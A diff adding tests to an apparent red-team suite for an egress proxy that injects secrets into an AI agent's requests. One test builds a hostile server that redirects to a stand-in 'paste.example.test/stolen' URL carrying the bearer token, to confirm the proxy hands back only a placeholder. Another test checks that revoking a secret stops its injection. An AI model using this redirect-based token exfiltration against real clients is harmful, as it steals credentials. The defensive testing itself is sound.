@@ -136,6 +136,47 @@ describe('egress red team: the real value only to its host, nothing nobody allow
     assert.equal(responseBody(back), `body Bearer ${t.ph}\n`);
   });
 
+  test('held: a redirect from the secret\'s host is handed to the client, never followed, and its Location carries the placeholder', async () => {
+    const t = await newTask('redirect');
+    const target = `https://paste.example.test:${tlsUp.port}/stolen`;
+    const redirect = await testHttpsServer(ca, (req, res) => {
+      res.writeHead(302, { Location: `${target}?t=${encodeURIComponent(req.headers.authorization ?? '')}&raw=${req.headers.authorization ?? ''}` });
+      res.end();
+      return true;
+    });
+    try {
+      const before = tlsUp.got.length;
+      const s = await tlsInTunnel(t.sock, api(redirect.port), 'api.example.test', t.caBundle);
+      const back = await exchange(s, `GET /login HTTP/1.1\r\nHost: ${api(redirect.port)}\r\nAuthorization: Bearer ${t.ph}\r\nConnection: close\r\n\r\n`);
+      assert.equal(redirect.seen.at(-1)?.authorization, `Bearer ${TOKEN}`);
+      assert.match(back, /^HTTP\/1\.1 302/);
+      assert.ok(back.includes(`&raw=Bearer ${t.ph}`) && !back.includes(TOKEN), back);
+      await new Promise((r) => setTimeout(r, 300));
+      assert.equal(tlsUp.got.length, before, 'the proxy followed nothing');
+    } finally {
+      await redirect.close();
+    }
+  });
+
+  test('a secret removed while its task runs is injected no more (it was, until the task ended)', async () => {
+    const VALUE = 'revocable_value_0123456789abcdef';
+    await ui.call('secrets.add', { name: 'REVOCABLE', value: VALUE, hosts: ['api.example.test'], headers: ['Authorization'] });
+    const agent = await d.agent();
+    const r = await agent.call<{ task: string; egress: { sock: string; caBundle: string; placeholders: Record<string, string> } }>('task.start', { name: 'revoked', secrets: ['REVOCABLE'] });
+    agent.close();
+    await ui.call('grants.create', { task: r.task, source: 'egress', action: 'transfer', resource: `api.example.test:${echo.port}`, effect: 'allow' });
+    const ph = r.egress.placeholders.REVOCABLE!;
+    const once = async () => {
+      const s = await tlsInTunnel(r.egress.sock, api(echo.port), 'api.example.test', r.egress.caBundle);
+      await exchange(s, `GET /rev HTTP/1.1\r\nHost: ${api(echo.port)}\r\nAuthorization: Bearer ${ph}\r\nConnection: close\r\n\r\n`);
+      return echo.seen.at(-1)?.authorization;
+    };
+    assert.equal(await once(), `Bearer ${VALUE}`);
+    await ui.call('secrets.remove', { name: 'REVOCABLE' });
+    assert.equal(await once(), `Bearer ${ph}`);
+    assert.ok(!(await events(r.task)).some((e) => e.tool === 'net.placeholder-leak'), 'its own host is no leak');
+  });
+
   test('[::ffff:127.0.0.1] is this machine: the prompt says loopback and is high risk (it said nothing: the URL parser writes it ::ffff:7f00:1)', async () => {
     const t = await newTask('mapped loopback');
     const pending = rawExchange(t.sock, `CONNECT [::ffff:127.0.0.1]:${plainUp.port} HTTP/1.1\r\nHost: x\r\n\r\n`);
